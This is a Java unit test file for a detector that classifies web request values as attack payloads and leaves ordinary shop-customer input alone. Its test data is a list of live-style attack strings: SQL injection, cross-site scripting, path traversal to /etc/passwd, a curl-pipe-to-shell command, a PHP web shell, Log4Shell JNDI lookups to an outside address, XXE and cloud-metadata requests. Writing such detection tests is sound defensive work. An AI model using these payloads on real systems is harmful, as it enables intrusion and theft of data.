package org.evenkeel.forensics.payload;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What values are, and what they are not.
class PayloadsTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '^',
      value = {
        "SQL~1' and '1'='1",
        "SQL~1%27%20AnD%201=1--%20",
        "SQL~-1/**/union/*!50000select*/null,user_pass from wp_users",
        "SQL~1;drop table orders--",
        "SQL~x') or sleep(5)#",
        "SQL~(select(0)from(select(sleep(5)))v)",
        "SQL~1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
        "SQL~admin'--",
        "SQL~MSBBTkQgMT0xIFVOSU9OIFNFTEVDVCAxLDIsMw==",
        "SCRIPT~<script>alert(1)</script>",
        "SCRIPT~%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
        "SCRIPT~\" onmouseover=alert(1) x=\"",
        "SCRIPT~&#x3C;svg/onload=confirm(1)&#x3E;",
        "SCRIPT~jAvAsCrIpT:alert`1`",
        "SCRIPT~\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "SCRIPT~+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "PATH~../../../../etc/passwd",
        "PATH~..%252f..%252f..%252fetc%252fpasswd",
        "PATH~..%c0%af..%c0%afetc/passwd",
        "PATH~C:\\windows\\win.ini",
        "COMMAND~127.0.0.1;cat /etc/hosts",
        "COMMAND~$(curl http://203.0.113.9/x|sh)",
        "COMMAND~a|w''ho\"\"ami",
        "COMMAND~`id`",
        "PHP~<?php system($_GET['c']);?>",
        "PHP~php://filter/convert.base64-encode/resource=index",
        "PHP~system('id')",
        "TEMPLATE~{{7*7}}",
        "TEMPLATE~${{7*7}}",
        "JAVA~${jndi:ldap://203.0.113.9/a}",
        "JAVA~${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}",
        "JAVA~%{(#a=@java.lang.Runtime@getRuntime())}",
        "OBJECT~O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "OBJECT~rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "XML~<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "QUERY~{\"$ne\":null}",
        "HEADER~x%0d%0aSet-Cookie:%20a=b",
        "INSIDE~http://169.254.169.254/latest/meta-data/"
      })
  void anAttackIsKnownForWhatItIs(PayloadKind kind, String value) {
    assertThat(Payloads.of(value)).extracting(Judgement::kind).contains(kind);
    assertThat(Payloads.of(value))
        .filteredOn(judgement -> judgement.kind() == kind)
        .allSatisfy(judgement -> assertThat(judgement.strength()).isGreaterThan(Strength.ODD));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "blue mug",
        "l'oreal",
        "5'6\" tall mirror",
        "rock 'n' roll",
        "salt & pepper; set of 2",
        "select your size",
        "union jack or st george flag",
        "7 and a half",
        "drop leaf table",
        "jane.doe@example.com",
        "https://www.example.com/shop/blue-mug?size=3",
        "/my-account/orders/",
        "2026-11-24T10:00:00+01:00",
        "wc_order_AbCdEf123456",
        "550e8400-e29b-41d4-a716-446655440000",
        "5f4dcc3b5aa765d61d8327deb882cf99",
        "c/ mayor, 12 - 3\u00ba b",
        "(2 for 1) mugs",
        "100% cotton #4",
        "java coffee beans",
        "price < 10",
        "eyJhbGciOiJIUzI1NiJ9"
      })
  void whatCustomersWriteIsNothing(String value) {
    assertThat(Payloads.of(value)).noneMatch(judgement -> judgement.strength() != Strength.ODD);
  }

  @Test
  void theLayersThatWereUndoneAreTold() {
    Judgement judgement = Payloads.of("%253Cscript%253Ealert(1)%253C/script%253E").getFirst();

    assertThat(judgement.decoded()).isEqualTo("<script>alert(1)</script>");
    assertThat(judgement.layers()).containsExactly("percent", "percent");
    assertThat(judgement.why()).isNotBlank();
  }

  @Test
  void namesPathsAndWholeQueriesAreJudgedToo() {
    assertThat(kinds("/shop/..%2f..%2f..%2fetc%2fpasswd")).contains(PayloadKind.PATH);
    assertThat(kinds("/?user[$ne]=x")).contains(PayloadKind.QUERY);
    assertThat(kinds("/?class.module.classLoader.x=1")).contains(PayloadKind.JAVA);
    assertThat(kinds("/?1%27%20or%201=1--")).contains(PayloadKind.SQL);
    assertThat(kinds("/shop/blue-mug?size=3&colour=dark%20red")).isEmpty();
  }

  @Test
  void theWayBackAfterSigningInIsNotFetched() {
    String own = "http%3A%2F%2F127.0.0.1%3A8105%2Fwp-admin%2Fusers.php";

    assertThat(kinds("/wp-login.php?redirect_to=" + own + "&reauth=1")).isEmpty();
    assertThat(kinds("/wp-login.php?url=" + own)).containsExactly(PayloadKind.INSIDE);
    assertThat(kinds("/wp-login.php?redirect_to=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
        .contains(PayloadKind.SCRIPT);
  }

  @Test
  void aScannersNameIsNoCommand() {
    assertThat(
            Payloads.ofUserAgent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))
        .isEmpty();
    assertThat(Payloads.ofUserAgent("WPScan v3.8.25; cat /etc/hosts")).isNotEmpty();
  }

  private static List<PayloadKind> kinds(String target) {
    return Payloads.ofTarget(target).stream().map(Judgement::kind).toList();
  }

  @Test
  void whateverIsSentIsJudgedWithoutHarm() {
    Random random = new Random(7);
    String signs = "'\"<>(){}[];|&%u0\\x+-./*#=@$`!,:_ \n\0selctunioraiptf27";
    for (int round = 0; round < 3_000; round++) {
      StringBuilder value = new StringBuilder();
      random
          .ints(random.nextInt(300), 0, signs.length())
          .forEach(at -> value.append(signs.charAt(at)));
      assertThatCode(() -> Payloads.ofTarget(value.toString())).doesNotThrowAnyException();
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"(", "'", "%25", "<a ", "${", "+A", "&#x", "\\u{", "/*", "union select "})
  void aMillionOfASignDoNotHang(String sign) {
    assertThatCode(() -> Payloads.of(sign.repeat(1_000_000))).doesNotThrowAnyException();
  }
}
